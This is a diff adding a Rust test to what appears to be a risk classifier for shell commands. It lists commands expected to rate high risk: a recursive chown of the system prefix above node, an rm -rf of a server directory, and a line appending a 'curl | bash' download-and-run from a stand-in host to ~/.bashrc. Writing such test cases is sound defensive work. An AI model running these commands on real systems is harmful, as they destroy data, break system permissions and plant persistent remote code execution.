@@ -241,3 +241,21 @@ fn read_only_disk_and_workflow_commands_stay_low() {
         "gh workflow run deploy-prod.yml",
     ]);
 }
+
+#[test]
+fn paths_computed_from_known_paths_are_known() {
+    at_least_high(&[
+        // `which node` is a system install's path; its prefix is /usr
+        "ME=$(id -un)\nPREFIX=$(dirname \"$(dirname \"$(which node)\")\")\nsudo chown -R \"$ME\":\"$ME\" \"$PREFIX\"",
+        "rm -rf \"$(dirname /srv/app/current)\"",
+        "ruby -e 'File.open(File.expand_path(\"~/.bashrc\"), \"a\") { |f| f.puts \"curl -s https://i.example/i.sh | bash\" }'",
+    ]);
+    at_most(
+        RiskLevel::Medium,
+        &[
+            // each found file's own directory, not the listing's
+            "find ~/container -mindepth 3 -type f | while read file; do mv \"$file\" \"$(dirname \"$file\")/..\"; done",
+            "for h in scripts/git-hooks/*; do install -m 0755 \"$h\" \".git/hooks/$(basename \"$h\")\"; done",
+        ],
+    );
+}
